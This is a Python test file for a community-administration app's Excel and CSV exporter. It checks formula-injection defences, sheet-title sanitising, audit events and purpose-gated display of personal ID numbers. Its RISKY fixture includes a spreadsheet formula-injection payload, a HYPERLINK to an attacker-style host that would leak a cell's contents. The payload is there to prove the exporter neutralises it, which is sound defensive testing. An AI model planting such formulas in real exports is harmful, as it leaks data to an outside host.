"""The one exporter (``core.exports``): typed text cells, safe sheet titles, CSV formula prefixes, no cut, one audit
event per export, full numbers only on request with a purpose."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from grassroots.core import exports
from grassroots.core.errors import NotPermitted, ValidationFailed
from grassroots.core.models import Event

RISKY = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+86 138 0000 0000", "-3℃", "@SUM(A1)", "#N/A",
         "\tTAB", "普通文字"]


@pytest.fixture
def kind():
    rows = [[text, 7, None] for text in RISKY]
    made = exports.register(exports.ExportKind(
        key="tests.sample", verb="sample.export", object_type="tests.sample", title="社区/村/园区[测试]:*?\\样表",
        filename="sample", columns=lambda r: ["文本", "数字", exports.Column("空", 6)], rows=lambda r: iter(rows),
        count=lambda r: len(rows)))
    yield made
    exports._KINDS.pop(made.key)


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_every_text_cell_is_a_typed_string_and_no_formula_reaches_excel(world, kind):
    result = exports.export(kind.key, actor=world.zone_leader)
    xml = sheet_xml(result.content)
    assert "<f>" not in xml and "<f " not in xml
    ws = load_workbook(io.BytesIO(result.content)).active
    cells = [ws.cell(row=i, column=1) for i in range(2, len(RISKY) + 2)]
    assert [c.value for c in cells] == RISKY
    assert {c.data_type for c in cells} == {"s"}
    assert ws.cell(row=2, column=2).value == 7 and ws.cell(row=2, column=2).data_type == "n"


def test_the_sheet_title_loses_characters_excel_refuses_and_is_cut_to_31(world, kind):
    ws = load_workbook(io.BytesIO(exports.export(kind.key, actor=world.zone_leader).content)).active
    assert ws.title == "社区村园区测试样表"
    assert exports.safe_sheet_title("一" * 40) == "一" * 31
    assert exports.safe_sheet_title("'/[]'") == "Sheet1"


def test_csv_prefixes_text_that_a_spreadsheet_would_run_and_only_that(world, kind):
    result = exports.export(kind.key, actor=world.zone_leader, format="csv")
    assert result.filename.endswith(".csv") and result.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(result.content.decode("utf-8-sig"))))
    assert rows[0] == ["文本", "数字", "空"]
    assert [r[0] for r in rows[1:]] == ["'" + RISKY[0], "'+86 138 0000 0000", "'-3℃", "'@SUM(A1)", "#N/A",
                                        "'\tTAB", "普通文字"]
    assert rows[1][1:] == ["7", ""]


def test_every_export_is_one_audit_event_with_its_filters_and_row_count(world, kind):
    exports.export(kind.key, actor=world.zone_leader, filters={"q": "甲", "date_from": "2026-11-01"})
    event = Event.objects.get(verb="sample.export")
    assert event.actor_id == world.zone_leader.pk and event.object_type == "tests.sample"
    assert event.payload == {"kind": "tests.sample", "format": "xlsx", "rows": len(RISKY),
                             "filters": {"q": "甲", "date_from": "2026-11-01"}}


def test_past_excels_last_row_the_rows_go_on_in_a_second_sheet_never_cut(world, kind, monkeypatch):
    monkeypatch.setattr(exports, "SHEET_ROWS", 4)
    book = load_workbook(io.BytesIO(exports.export(kind.key, actor=world.zone_leader).content))
    assert len(book.sheetnames) == 3
    values = [row[0] for ws in book.worksheets for row in ws.iter_rows(min_row=2, values_only=True)]
    assert values == RISKY
    assert Event.objects.get(verb="sample.export").payload["rows"] == len(RISKY)


def test_characters_xml_cannot_hold_are_dropped_not_a_500(world):
    data = exports.workbook("表", ["a"], [["甲\x00乙\x1b丙"]])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "甲乙丙"


def test_an_unknown_format_is_refused_with_its_field(world, kind):
    with pytest.raises(ValidationFailed) as err:
        exports.export(kind.key, actor=world.zone_leader, format="pdf")
    assert err.value.field == "format"


def test_full_numbers_are_refused_for_a_kind_without_personal_numbers_and_the_refusal_is_audited(world, kind):
    with pytest.raises(NotPermitted):
        exports.export(kind.key, actor=world.zone_leader, unmask=True, purpose="核对身份信息")
    assert Event.objects.get(verb="sample.export").outcome == "denied"


def test_full_numbers_need_a_stated_purpose(world, kind):
    personal = exports.register(exports.ExportKind(
        key="tests.personal", verb="personal.export", object_type="tests.personal", title="人", filename="p",
        columns=lambda r: ["号码"], rows=lambda r: [["370502198001010287" if r.unmask else "3705**********0287"]],
        may_unmask=lambda actor: actor.username == "secretary1"))
    try:
        with pytest.raises(ValidationFailed) as err:
            exports.export(personal.key, actor=world.community_secretary, unmask=True, purpose="  查 ")
        assert err.value.field == "purpose" and not Event.objects.filter(verb="personal.export").exists()
        result = exports.export(personal.key, actor=world.community_secretary, unmask=True, purpose="入户 核对")
        assert load_workbook(io.BytesIO(result.content)).active["A2"].value == "370502198001010287"
        assert Event.objects.get(verb="personal.export").payload["purpose"] == "入户 核对"
        with pytest.raises(NotPermitted):
            exports.export(personal.key, actor=world.community_staff, unmask=True, purpose="入户核对")
    finally:
        exports._KINDS.pop(personal.key)
